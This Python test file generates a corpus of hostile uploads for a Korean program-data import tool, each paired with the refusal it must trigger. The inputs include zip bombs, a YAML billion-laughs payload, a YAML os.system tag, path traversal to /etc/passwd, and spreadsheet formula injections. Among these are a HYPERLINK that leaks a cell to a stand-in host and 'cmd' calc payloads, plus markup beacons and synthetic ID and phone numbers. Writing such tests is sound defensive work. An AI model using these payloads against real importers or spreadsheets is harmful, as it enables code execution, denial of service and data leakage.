"""Generate the hostile import corpus: files an attacker or a confused user might upload, each
with the class of refusal it must meet (or `valid`: it must import, exactly once).

    python tests/hostile/make_corpus.py OUT_DIR        # writes the files and manifest.json
    from tests.hostile.make_corpus import cases         # [Case(...)], built lazily

Built from code (nothing binary committed). Big files are built streaming and only when asked
for (`Case.build()`), so listing the corpus is cheap.
"""
from __future__ import annotations

import json
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from tests.hostile.builders import (APPLICATION_HEADERS, PUBLICITY_HEADERS, SHEET_HEAD, VISIT_HEADERS,  # noqa: E402
                                    app, apps, bomb_chunks, card, csv_bytes, exe, exes, far_cell_sheet,
                                    good_xlsx_parts, pub, pubs, reported, sheet_xml, targets, visit, visits,
                                    xlsx_with, zip_parts)

CLASSES = ("resource", "traceback", "value", "personal", "formula", "markup", "card", "valid")


@dataclass
class Case:
    id: str
    cls: str                          # one of CLASSES
    name: str                         # the file name as uploaded
    make: Callable[[], bytes]
    args: list[str] = field(default_factory=list)   # extra CLI arguments
    slow: bool = False                # big to build or to refuse: run in its own process

    @property
    def expect(self) -> str:
        return "import" if self.cls == "valid" else "refuse"

    def build(self) -> bytes:
        return self.make()


# --- the corpus ----------------------------------------------------------------------------------

def _c(id, cls, name, make, args=(), slow=False) -> Case:
    return Case(id, cls, name, make if callable(make) else (lambda b=make: b), list(args), slow)


def resource_cases() -> list[Case]:
    dim = lambda d, cell, row: (lambda: zip_parts(good_xlsx_parts(far_cell_sheet(d, cell, row))))
    return [
        _c("xlsx_dimension_xfd", "resource", "범위.xlsx", dim("A1:XFD1048576", "XFD1048576", 1048576), slow=True),
        _c("xlsx_dimension_rows", "resource", "범위_행.xlsx", dim("A1:H2000000", "H2000000", 2000000), slow=True),
        _c("xlsx_dimension_cols", "resource", "범위_열.xlsx", dim("A1:ZZ10", "ZZ10", 10), slow=True),
        _c("xlsx_lying_dimension_far_row", "resource", "범위_거짓.xlsx", dim("A1:H2", "H1048576", 1048576), slow=True),
        _c("xlsx_no_dimension_far_cell", "resource", "범위_없음.xlsx",
           lambda: zip_parts(good_xlsx_parts(SHEET_HEAD + b'<sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
                                             b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>')), slow=True),
        _c("zip_bomb_sheet_1gb", "resource", "압축폭탄.xlsx",
           lambda: zip_parts(good_xlsx_parts(bomb_chunks(1 << 30))), slow=True),
        _c("zip_bomb_shared_strings", "resource", "압축폭탄_문자열.xlsx",
           lambda: zip_parts(good_xlsx_parts(sheet_xml("A1:A1", b""), shared=bomb_chunks(256 << 20, b"<si><t>a</t></si>" * 4000))), slow=True),
        _c("zip_bomb_lying_size", "resource", "압축폭탄_크기거짓.xlsx",
           lambda: zip_parts(good_xlsx_parts(bomb_chunks(64 << 20)), declared={"xl/worksheets/sheet1.xml": 2048}), slow=True),
        _c("zip_many_parts", "resource", "항목많음.xlsx",
           lambda: zip_parts({**good_xlsx_parts(sheet_xml("A1:A1", b"")), **{f"xl/media/x{i}.bin": b"x" for i in range(400)}}), slow=True),
        _c("xlsx_many_rows", "resource", "행많음.xlsx",
           lambda: zip_parts(good_xlsx_parts(lambda: (
               [SHEET_HEAD + b"<sheetData>"] + [f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>'.encode() for r in range(1, 400_002)]
               + [b"</sheetData></worksheet>"]))), slow=True),
        _c("csv_over_size_limit", "resource", "너무큼.csv",
           lambda: ",".join(APPLICATION_HEADERS).encode() + b"\n" + b"6-1-1,X,2024-03-04,P,a,24,2024-06-12,\xec\x8a\xb9\xec\x9d\xb8\n" * 800_000, slow=True),
        _c("csv_400k_rows_under_size", "resource", "행40만.csv",
           lambda: ",".join(APPLICATION_HEADERS).encode() + b"\n" + b"6-1-1,X,2024-03-04,P,a,24,2024-06-12,\xec\x8a\xb9\xec\x9d\xb8\n" * 400_000, slow=True),
        _c("csv_too_many_rows", "resource", "행많음.csv",
           lambda: ",".join(APPLICATION_HEADERS).encode() + b"\n" + b"6-1-1\n" * 310_000, slow=True),
        _c("csv_too_many_columns", "resource", "열많음.csv",
           lambda: csv_bytes([f"열{i}" for i in range(200)], [["1"] * 200]), slow=True),
        _c("csv_one_huge_line", "resource", "한줄.csv", lambda: b"a" * (20 << 20), slow=True),
        _c("csv_long_cell", "resource", "긴칸.csv", lambda: pubs(pub(1, title="가" * 5000)), slow=True),
        _c("yaml_billion_laughs", "resource", "웃음.yaml",
           lambda: ("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
                    + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]\n" for i in range(8))
                    ).encode(), slow=True),
        _c("yaml_100mb_scalar", "resource", "큰값.yaml",
           lambda: card(("title: 출산 전·후 지원 돌봄서비스 제공", "title: " + "가" * (34 << 20)))(), slow=True),
        _c("yaml_file_too_big", "resource", "큰카드.yaml", card(append="# " + "x" * 300_000 + "\n"), slow=True),
        _c("yaml_long_scalar", "resource", "긴값.yaml",
           card(("policy_goal: 임신중", "policy_goal: " + "가" * 6000 + " 임신중")), slow=True),
        _c("yaml_many_keys", "resource", "항목많음.yaml",
           lambda: "".join(f"k{i}: {i}\n" for i in range(40_000)).encode(), slow=True),
    ]


def traceback_cases() -> list[Case]:
    utf16 = ("\t".join(APPLICATION_HEADERS) + "\r\n" + "\t".join(app(1)) + "\r\n").encode("utf-16")
    outside_rels = lambda target: (lambda: zip_parts(good_xlsx_parts(sheet_xml("A1:A1", b""), rels_target=target)))
    return [
        _c("utf16_truncated", "traceback", "utf16_잘림.csv", utf16[:-1]),
        _c("utf16_truncated_mid", "traceback", "utf16_중간.csv", utf16[: len(utf16) // 2 + 1]),
        _c("utf32", "traceback", "utf32.csv", ("\t".join(APPLICATION_HEADERS) + "\n").encode("utf-32")),
        _c("csv_field_over_csv_limit", "traceback", "긴필드.csv", pubs(pub(1, title="x" * 140_000))),
        _c("csv_duplicate_headers", "traceback", "머리글중복.csv",
           csv_bytes(APPLICATION_HEADERS + ["신청번호"], [app(1) + ["H-A-9"]])),
        _c("csv_blank_header", "traceback", "빈머리글.csv",
           csv_bytes(APPLICATION_HEADERS[:3] + [""] + APPLICATION_HEADERS[3:], [app(1)[:3] + ["x"] + app(1)[3:]])),
        _c("csv_all_blank_headers", "traceback", "머리글없음.csv", b",,,\n1,2,3,4\n"),
        _c("csv_unterminated_quote", "traceback", "따옴표.csv", b'\xea\xb3\xb5\xec\x95\xbd\xeb\xb2\x88\xed\x98\xb8,a\n"6-1-1,b\n'),
        _c("csv_nul_bytes", "traceback", "널.csv", apps(app(1)).replace(b"H-A-00001", b"H-A\x00\x00\x00001")),
        _c("csv_binary_garbage", "traceback", "쓰레기.csv", bytes(range(256)) * 40),
        _c("csv_only_newlines", "traceback", "줄바꿈.csv", b"\r\n\r\n\n\r"),
        _c("csv_header_row_only_spaces", "traceback", "공백.csv", b"   ,  \n1,2\n"),
        _c("xlsx_merged_header", "traceback", "병합.xlsx",
           lambda: xlsx_with({"신청": [APPLICATION_HEADERS, app(1)]}, merge="A1:B1")),
        _c("xlsx_path_outside", "traceback", "경로밖.xlsx", outside_rels("../../../../etc/passwd")),
        _c("xlsx_path_absolute_outside", "traceback", "경로절대.xlsx", outside_rels("/../../etc/passwd")),
        _c("xlsx_path_url", "traceback", "경로URL.xlsx", outside_rels("http://example.invalid/sheet.xml")),
        _c("xlsx_member_dotdot", "traceback", "항목경로.xlsx",
           lambda: zip_parts({**good_xlsx_parts(sheet_xml("A1:A1", b"")), "../../evil.txt": b"x"})),
        _c("xlsx_doctype_entity", "traceback", "엔티티.xlsx",
           lambda: zip_parts(good_xlsx_parts(b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>'
                                             + sheet_xml("A1:A1", b"")[len(b'<?xml version="1.0"?>'):]))),
        _c("xlsx_no_workbook", "traceback", "통합문서없음.xlsx", lambda: zip_parts({"a.txt": b"hello"})),
        _c("xlsx_corrupt_sheet_xml", "traceback", "시트깨짐.xlsx",
           lambda: zip_parts(good_xlsx_parts(SHEET_HEAD + b"<sheetData><row r='1'><c r='A1'><v>1</v></row"))),
        _c("xlsx_png_named", "traceback", "그림.xlsx", b"\x89PNG\r\n\x1a\n" + b"\x00" * 200),
        _c("xlsx_empty_zip", "traceback", "빈압축.xlsx", lambda: zip_parts({})),
        _c("xlsx_truncated", "traceback", "잘림.xlsx",
           lambda: xlsx_with({"신청": [APPLICATION_HEADERS, app(1)]})[:700]),
        _c("yaml_deep_flow", "traceback", "깊음.yaml", ("title: " + "[" * 20_000 + "]" * 20_000 + "\n").encode()),
        _c("yaml_deep_block", "traceback", "깊음_블록.yaml",
           ("".join("  " * i + f"k{i}:\n" for i in range(200)) + "  " * 200 + "v\n").encode()),
        _c("yaml_not_utf8", "traceback", "카드_cp949.yaml", "city: naju\ntitle: 제목\n".encode("cp949")),
        _c("yaml_python_tag", "traceback", "태그.yaml", b"city: !!python/object/apply:os.system ['true']\n"),
        _c("yaml_multi_document", "traceback", "여러문서.yaml", b"city: naju\n---\ncity: naju\n"),
        _c("yaml_list_top", "traceback", "목록.yaml", b"- a\n- b\n"),
        _c("yaml_scalar_top", "traceback", "값.yaml", b"just text\n"),
        _c("yaml_complex_key", "traceback", "복합키.yaml", b"? [1, 2]\n: 3\n"),
        _c("yaml_tab_indent", "traceback", "탭.yaml", b"city:\n\tname: x\n"),
        _c("yaml_control_char", "traceback", "제어.yaml", b"city: na\x07ju\n"),
    ]


def value_cases() -> list[Case]:
    mixed = apps(app(1, emd="빛가람동")) + ",".join(app(2, emd="남평읍")).encode("cp949") + b"\r\n"
    return [
        _c("inf_hours", "value", "제공_inf.csv", visits(visit(1, hours="inf"))),
        _c("nan_hours", "value", "제공_nan.csv", visits(visit(1, hours="nan"))),
        _c("infinity_actual", "value", "실적_inf.csv", reported("Infinity")),
        _c("nan_target", "value", "목표_nan.csv", targets("NaN"), ["--author", "기획팀", "--reason", "시험"]),
        _c("e308_actual", "value", "실적_e308.csv", reported("1e308")),
        _c("e309_actual", "value", "실적_e309.csv", reported("1e309")),
        _c("int_2_63_week", "value", "주수_2의63.csv", apps(app(1, week="9223372036854775808"))),
        _c("int_2_64_amount", "value", "집행_2의64.csv", exes(exe(1, amount="18446744073709551616"))),
        _c("int_neg_2_63_amount", "value", "집행_음수큰값.csv", exes(exe(1, amount="-9223372036854775809"))),
        _c("sci_amount", "value", "집행_지수.csv", exes(exe(1, amount="1.2e9"))),
        _c("sci_amount_upper", "value", "집행_지수2.csv", exes(exe(1, amount="1.2E+9"))),
        _c("decimal_comma_hours", "value", "제공_소수쉼표.csv", visits(visit(1, hours="3,5"))),
        _c("bad_groups_amount", "value", "집행_쉼표.csv", exes(exe(1, amount="1,2,3,4"))),
        _c("bad_groups_amount2", "value", "집행_쉼표2.csv", exes(exe(1, amount="12,50,000"))),
        _c("fraction_amount", "value", "집행_소수.csv", exes(exe(1, amount="1250.5"))),
        _c("fullwidth_digits_week", "value", "주수_전각.csv", apps(app(1, week="２４"))),
        _c("superscript_year", "value", "실적_윗첨자.csv", reported("3", year="²")),
        _c("zwsp_in_id", "value", "신청_ZWSP.csv", apps(app(1, app_id="H-A-\u200b00001"))),
        _c("bom_char_in_id", "value", "신청_FEFF.csv", apps(app(1, app_id="H-A-00001\ufeff"))),
        _c("nul_in_id", "value", "신청_NUL.csv", apps(app(1, app_id="H-A-\x0000001"))),
        _c("bidi_in_id", "value", "신청_BIDI.csv", apps(app(1, person="H-P-\u202e10000"))),
        _c("hangul_filler_in_id", "value", "신청_채움.csv", apps(app(1, app_id="H-A-\u316400001"))),
        _c("zwsp_in_pledge", "value", "신청_공약ZWSP.csv", apps(["6-1-1\u200b"] + app(1)[1:])),
        _c("mixed_utf8_cp949", "value", "신청_혼합.csv", mixed),
        _c("div0_text", "value", "제공_DIV0.csv", visits(visit(1, hours="#DIV/0!"))),
        _c("na_text_in_text", "value", "홍보_NA.csv", pubs(pub(1, title="#N/A"))),
        _c("ref_in_amount", "value", "집행_REF.csv", exes(exe(1, amount="#REF!"))),
        _c("div0_xlsx_error_cell", "value", "제공_오류칸.xlsx",
           lambda: xlsx_with({"제공": [VISIT_HEADERS, visit(1)]}, error_cell="F2")),
        _c("array_formula_xlsx", "value", "제공_배열수식.xlsx",
           lambda: xlsx_with({"제공": [VISIT_HEADERS, visit(1)]}, array_formula="F2")),
        _c("due_1899", "value", "신청_예정일1899.csv", apps(app(1, due="1899-12-31"))),
        _c("due_2200", "value", "신청_예정일2200.csv", apps(app(1, due="2200-01-01"))),
        _c("due_before_applied", "value", "신청_예정일앞.csv", apps(app(1, due="2023-01-01"))),
        _c("applied_serial_zero", "value", "신청_일련0.csv", apps(app(1, day="0"))),
        _c("applied_9999", "value", "신청_9999.csv", apps(app(1, day="9999-12-31"))),
        _c("channel_not_allowed", "value", "홍보_매체.csv", pubs(pub(1, channel="전단지<script>"))),
        _c("service_not_allowed", "value", "제공_서비스.csv", visits(visit(1, service="요리"))),
        _c("negative_week", "value", "신청_주수음수.csv", apps(app(1, week="-3"))),
        _c("week_fraction", "value", "신청_주수소수.csv", apps(app(1, week="24.5"))),
        _c("date_month_13", "value", "신청_13월.csv", apps(app(1, day="2024-13-01"))),
    ]


def personal_cases() -> list[Case]:
    return [
        _c("rrn_spaced_dash", "personal", "신청_주민공백.csv", apps(app(1, person="950101 - 2345678"))),
        _c("rrn_no_dash", "personal", "신청_주민붙임.csv", apps(app(1, person="9501012345678"))),
        _c("rrn_unicode_dash", "personal", "신청_주민대시.csv", apps(app(1, person="950101\u20132345678"))),
        _c("rrn_masked", "personal", "신청_주민가림.csv", apps(app(1, emd="950101-2******"))),
        _c("foreigner_rrn", "personal", "신청_외국인.csv", apps(app(1, person="950101-5345678"))),
        _c("foreigner_rrn_8", "personal", "홍보_외국인.csv", pubs(pub(1, title="대상 880303-8123456 확인"))),
        _c("phone_plus82", "personal", "신청_국제전화.csv", apps(app(1, emd="+82 10-1234-5678"))),
        _c("phone_plus82_text", "personal", "홍보_국제전화.csv", pubs(pub(1, title="문의 82-10-1234-5678"))),
        _c("phone_u2010", "personal", "홍보_하이픈.csv", pubs(pub(1, title="문의 010\u20101234\u20105678"))),
        _c("phone_u2212", "personal", "홍보_마이너스.csv", pubs(pub(1, title="문의 010\u22121234\u22125678"))),
        _c("phone_fullwidth", "personal", "홍보_전각.csv", pubs(pub(1, title="문의 010\uff0d1234\uff0d5678"))),
        _c("phone_landline", "personal", "집행_유선.csv", exes(exe(1, note="담당 061-330-1234"))),
        _c("name_in_free_text", "personal", "홍보_이름.csv", pubs(pub(1, title="김민지 님 가정 방문 안내"))),
        _c("name_with_age", "personal", "집행_이름나이.csv", exes(exe(1, note="홍길동(34세) 지원"))),
        _c("name_after_label", "personal", "집행_성명.csv", exes(exe(1, note="대상자: 박서연 지원"))),
        _c("name_suffix_of_id", "personal", "신청_ID이름.csv", apps(app(1, person="P-00012-김민지"))),
        _c("name_prefix_of_id", "personal", "신청_이름ID.csv", apps(app(1, person="김민지-0012"))),
        _c("name_as_id_xlsx", "personal", "신청_이름.xlsx", lambda: xlsx_with({"신청": [APPLICATION_HEADERS, app(1, person="이서윤")]})),
        _c("card_phone_in_text", "personal", "카드_전화.yaml",
           card(("policy_goal: 임신중", "policy_goal: 문의 010-1234-5678 임신중"))),
        _c("card_rrn_in_note", "personal", "카드_주민.yaml",
           card(("status_note: \"원본", "status_note: \"950101-2345678 원본"))),
        _c("card_name_in_overview", "personal", "카드_이름.yaml",
           card(("{label: 사업규모, text: 600명}", "{label: 사업규모, text: 김민지 님 외 600명}"))),
        _c("file_name_rrn", "personal", "950101-2345678.csv", apps(app(1))),
    ]


def formula_cases() -> list[Case]:
    cmd = "-2+3+cmd|' /C calc'!A0"
    link = '+1+HYPERLINK("http://example.invalid/?leak="&A1,"클릭")'
    return [
        _c("formula_minus_cmd", "formula", "홍보_수식1.csv", pubs(pub(1, title=cmd))),
        _c("formula_plus_hyperlink", "formula", "홍보_수식2.csv", pubs(pub(1, title=link))),
        _c("formula_at_sum", "formula", "홍보_수식3.csv", pubs(pub(1, title="@SUM(1+1)*cmd|' /C calc'!A0"))),
        _c("formula_equals_cmd", "formula", "집행_수식.csv", exes(exe(1, note="=cmd|' /C calc'!A0"))),
        _c("formula_tab_prefixed", "formula", "홍보_탭.csv", pubs(pub(1, title="\t=1+1"))),
        _c("formula_cr_prefixed", "formula", "홍보_CR.csv", pubs(pub(1, title="\r=1+1"))),
        _c("formula_fullwidth", "formula", "홍보_전각수식.csv", pubs(pub(1, title="＝HYPERLINK(\"http://x\")"))),
        _c("formula_in_id", "formula", "신청_수식ID.csv", apps(app(1, app_id="=1+2"))),
        _c("formula_minus_text", "formula", "홍보_빼기.csv", pubs(pub(1, title="-cmd"))),
        _c("formula_xlsx_cell", "formula", "홍보_수식.xlsx",
           lambda: xlsx_with({"홍보": [PUBLICITY_HEADERS, pub(1)[:4] + ['=HYPERLINK("http://x","y")']]})),
        _c("formula_xlsx_string", "formula", "홍보_수식문자.xlsx",
           lambda: xlsx_with({"홍보": [PUBLICITY_HEADERS, pub(1)[:4] + ["@SUM(A1)"]]})),
        _c("formula_in_header", "formula", "머리글수식.csv", csv_bytes(PUBLICITY_HEADERS + ["=1+1"], [pub(1) + ["x"]])),
        _c("formula_card_title", "formula", "카드_수식제목.yaml",
           card(("title: 출산 전·후 지원 돌봄서비스 제공", "title: \"=HYPERLINK(\\\"http://x\\\")\""))),
        _c("formula_card_department", "formula", "카드_수식부서.yaml", card(("department: 보건행정과", "department: \"+1+cmd\""))),
        _c("formula_card_plan", "formula", "카드_수식계획.yaml",
           card(("{text: 사업 대상자 상담·접수 및 지원 결정 통지, when: 연중}", "{text: \"@SUM(1)\", when: 연중}"))),
        _c("formula_file_name", "formula", "=cmd|' calc'!A0.csv", apps(app(1))),
        _c("formula_user_name", "formula", "신청_사용자.csv", apps(app(1)), ["--as", "=HYPERLINK(\"http://x\")"]),
        _c("formula_author", "formula", "목표_변경자.csv", targets("700"), ["--author", "=cmd", "--reason", "시험"]),
        _c("formula_reason", "formula", "목표_사유.csv", targets("700"), ["--author", "기획팀", "--reason", "+1+HYPERLINK(\"x\")"]),
    ]


def markup_cases() -> list[Case]:
    return [
        _c("markup_image_title", "markup", "카드_그림.yaml",
           card(("title: 출산 전·후 지원 돌봄서비스 제공", "title: \"돌봄 ![x](http://example.invalid/x.png)\""))),
        _c("markup_html_title", "markup", "카드_HTML.yaml",
           card(("title: 출산 전·후 지원 돌봄서비스 제공", "title: \"돌봄 <img src=http://example.invalid/x.png>\""))),
        _c("markup_link_goal", "markup", "카드_링크.yaml",
           card(("policy_goal: 임신중", "policy_goal: \"[누르세요](javascript:alert(1)) 임신중\""))),
        _c("markup_image_log", "markup", "카드_그림기록.yaml",
           card(("{text: 사업 확대에 따른 예산 확보(예산 변경), date: 2023. 2.}",
                 "{text: \"![t](https://example.invalid/t.gif)\", date: 2023. 2.}"))),
    ]


def card_cases() -> list[Case]:
    return [
        _c("card_duplicate_key", "card", "카드_중복.yaml", card(append="title: 다른 제목\n")),
        _c("card_duplicate_nested_key", "card", "카드_중복2.yaml",
           card(("    targets: {2022: 2, 2023: 4", "    targets: {2022: 2, 2022: 40, 2023: 4"))),
        _c("card_nan_target", "card", "카드_nan.yaml", card(("targets: {2022: 2, 2023: 4", "targets: {2022: .nan, 2023: 4"))),
        _c("card_inf_target", "card", "카드_inf.yaml", card(("targets: {2022: 2, 2023: 4", "targets: {2022: .inf, 2023: 4"))),
        _c("card_string_inf_target", "card", "카드_inf문자.yaml", card(("targets: {2022: 2, 2023: 4", "targets: {2022: '1e400', 2023: 4"))),
        _c("card_huge_int_target", "card", "카드_큰수.yaml", card(("targets: {2022: 2, 2023: 4", "targets: {2022: " + "9" * 400 + ", 2023: 4"))),
        _c("card_negative_weight", "card", "카드_음수가중치.yaml", card(("    source: publicity\n", "    source: publicity\n    weight: -1\n"))),
        _c("card_zero_weight", "card", "카드_0가중치.yaml", card(("    source: publicity\n", "    source: publicity\n    weight: 0\n"))),
        _c("card_nan_weight", "card", "카드_nan가중치.yaml", card(("    source: publicity\n", "    source: publicity\n    weight: .nan\n"))),
        _c("card_unknown_city", "card", "카드_시군.yaml", card(("city: naju", "city: mokpo"))),
        _c("card_unsafe_city", "card", "카드_시군경로.yaml", card(("city: naju", "city: \"../naju\""))),
        _c("card_upper_city", "card", "카드_시군대문자.yaml", card(("city: naju", "city: NAJU"))),
        _c("card_anchor_alias", "card", "카드_별칭.yaml",
           card(("department: 보건행정과", "department: &d 보건행정과"), append="team: *d\n")),
        _c("card_negative_required_budget", "card", "카드_예산음수.yaml", card(("required_budget: 504", "required_budget: -504"))),
        _c("xlsx_hidden_first_sheet", "card", "숨김시트.xlsx",
           lambda: xlsx_with({"자료": [APPLICATION_HEADERS, app(1)], "표지": [["신청 현황"]]}, hidden=("자료",))),
        _c("xlsx_very_hidden_first_sheet", "card", "매우숨김.xlsx",
           lambda: xlsx_with({"자료": [APPLICATION_HEADERS, app(1)], "표지": [["신청 현황"]]}, very_hidden=("자료",))),
    ]


def valid_cases() -> list[Case]:
    rows = [app(1), app(2, day="2024-03-05")]
    return [
        _c("valid_cr_only", "valid", "신청_CR.csv", apps(*rows, newline="\r")),
        _c("valid_lf_only", "valid", "신청_LF.csv", apps(*rows, newline="\n")),
        _c("valid_quoted_newline", "valid", "홍보_줄바꿈.csv", pubs(pub(1, title="가사돌봄\n서비스 안내"))),
        _c("valid_bom", "valid", "신청_BOM.csv", apps(*rows, encoding="utf-8-sig")),
        _c("valid_cp949", "valid", "신청_CP949.csv", apps(*rows, encoding="cp949")),
        _c("valid_utf16_tab", "valid", "신청_UTF16.csv",
           ("\t".join(APPLICATION_HEADERS) + "\r\n" + "\r\n".join("\t".join(r) for r in rows) + "\r\n").encode("utf-16")),
        _c("valid_amount_formats", "valid", "집행_금액.csv", exes(exe(1, amount="1,250,000"), exe(2, amount="1250000원"))),
        _c("valid_lone_dash_note", "valid", "집행_대시.csv", exes(exe(1, note="-"), exe(2, amount="-"[:0] + "500"))),
        _c("valid_hidden_first_named_visible", "valid", "숨김_보이는시트.xlsx",
           lambda: xlsx_with({"옛자료": [["x"]], "신청": [APPLICATION_HEADERS, *rows]}, hidden=("옛자료",))),
        _c("valid_named_sheet", "valid", "시트지정.xlsx",
           lambda: xlsx_with({"표지": [["신청 현황"]], "신청": [APPLICATION_HEADERS, *rows]}), ["--sheet", "신청"]),
        _c("valid_card", "valid", "카드_새공약.yaml", card()),
        _c("valid_combined_service", "valid", "제공_복합.csv", visits(visit(1, service="청소·세탁"))),
    ]


def cases() -> list[Case]:
    """Every case, in class order."""
    out = (resource_cases() + traceback_cases() + value_cases() + personal_cases() + formula_cases()
           + markup_cases() + card_cases() + valid_cases())
    ids = [c.id for c in out]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return out


def write_corpus(folder: Path, only: list[str] | None = None) -> list[dict]:
    """Write the files (one folder per case: the name must stay as uploaded) and manifest.json."""
    folder.mkdir(parents=True, exist_ok=True)
    manifest = []
    for c in cases():
        if only and c.id not in only:
            continue
        path = folder / c.id / c.name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(c.build())
        manifest.append({"id": c.id, "class": c.cls, "expect": c.expect, "path": str(path), "args": c.args})
    (folder / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1), encoding="utf-8")
    return manifest


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path("hostile-corpus")
    made = write_corpus(target, sys.argv[2:] or None)
    by_class = {k: sum(1 for m in made if m["class"] == k) for k in CLASSES}
    print(f"{len(made)} files in {target}: {by_class}")
